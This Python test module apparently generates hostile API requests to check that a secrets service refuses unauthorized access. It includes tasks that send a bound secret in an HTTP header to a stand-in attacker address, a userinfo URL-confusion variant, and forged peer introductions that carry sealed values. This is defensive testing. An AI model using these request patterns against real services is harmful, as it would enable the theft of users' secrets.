"""Attempts to read a secret of the owner or of another user, or to have it sent to somebody."""

from __future__ import annotations

import random
import uuid
from collections.abc import Iterator
from typing import Any

from tests.hostile.messages import Actor, Message
from tests.hostile.odd import as_word
from tests.hostile.scene import BOUND, UNBOUND, Scene, Site, dumped
from tests.hostile.targets import measured

FAMILY = "secrets"
_EVIL = "http://192.0.2.66/"
_SEALED = "parley1:00000000:" + "A" * 44
_NO_VALUES: tuple[Any, ...] = (
    {"sealed": _SEALED},
    {"sealed": _SEALED, "here": _SEALED},
    "(secret)",
    {"secret": BOUND, "sealed": _SEALED},
    {"secret": [BOUND]},
    {"secret": {"secret": BOUND}},
    {"secret": BOUND.upper()},
    {"secret": f"{BOUND}\n"},
    {"secret": None},
    [{"secret": BOUND}],
)
"""Values of a header that stand for none, whoever writes them."""


def _http(value: Any, url: str = _EVIL) -> dict[str, Any]:
    return {"type": "http", "spec": {"url": url, "headers": {"X": value}}}


def messages(scene: Scene, rng: random.Random) -> Iterator[Message]:
    """Yield all of them, in an order by chance."""
    every = [
        message
        for node, site in enumerate(scene.sites)
        for message in (*_of_users(node, site), *_of_peers(scene, node, site))
    ]
    rng.shuffle(every)
    yield from every


def _of_users(node: int, site: Site) -> Iterator[Message]:
    """Yield what users with less than the role operate ask."""
    for actor in (Actor.RUN, Actor.READ, Actor.STRANGER):
        yield from _at_the_store(actor, node)
    urls = (_EVIL, "http://api.example/", "http://api.example@192.0.2.66/")
    named = [_http({"secret": name}, url) for name in (BOUND, UNBOUND, "none") for url in urls]
    for test in (*named, *map(_http, _NO_VALUES)):
        for path in ("/v1/tasks", "/v1/plans"):
            yield _of_run("sends it", "POST", path, dumped({"test": test}), node, {403, 422})
    task = f"/v1/tasks/{site.things['hushed']}"
    turned = dumped({"test": {"spec": {"url": _EVIL}}})
    for path in (task, f"{task}?dry_run=true"):
        yield _of_run("another target", "PATCH", path, turned, node, {403, 404})
    for path in (task, f"{task}/explain", f"{task}/runs"):
        yield _of_run("another's header", "GET", path, b"", node, {403, 404})
        for actor in (Actor.READ, Actor.OPERATE, Actor.OWN):
            yield Message(FAMILY, "a header", "GET", path, actor, node=node, allowed={200})


def _at_the_store(actor: Actor, node: int) -> Iterator[Message]:
    over = dumped({"name": BOUND, "value": "mine", "replace": True})
    for method, path, body in (
        ("GET", "/v1/secrets", b""),
        ("GET", f"/v1/secrets?cursor={as_word(BOUND)}", b""),
        ("DELETE", f"/v1/secrets/{BOUND}", b""),
        ("POST", "/v1/secrets", over),
    ):
        yield Message(FAMILY, "the store", method, path, actor, body, node=node, allowed={401, 403})


def _of_run(
    hostile: str, method: str, path: str, body: bytes, node: int, allowed: set[int]
) -> Message:
    return Message(FAMILY, hostile, method, path, Actor.RUN, body, node=node, allowed=allowed)


def _of_peers(scene: Scene, node: int, site: Site) -> Iterator[Message]:
    """Yield introductions that name secrets, or say what this host had sealed."""
    sound = measured(scene, site, "http", {"url": "http://198.51.100.7/"})
    for number, value in enumerate(({"secret": BOUND}, {"secret": UNBOUND}, *_NO_VALUES)):
        spec = {**sound["spec"], "url": "http://198.51.100.7/", "headers": {"X": value}}
        for told in (None, {_SEALED: "mine"}, {_SEALED: "a\nb"}, {"": ""}):
            task = str(uuid.uuid4())
            document = {**sound, "task": task, "spec": spec}
            if told is not None:
                document["secrets"] = told
            for method, path in (
                ("POST", "/v1/participant/considerations"),
                ("PUT", f"/v1/participant/tasks/{task}"),
            ):
                yield Message(
                    FAMILY, "introduces it", method, path, Actor.PEER, dumped(document),
                    node=node, allowed={200, 400, 422, 429}, signer=number % 9,
                )  # fmt: skip
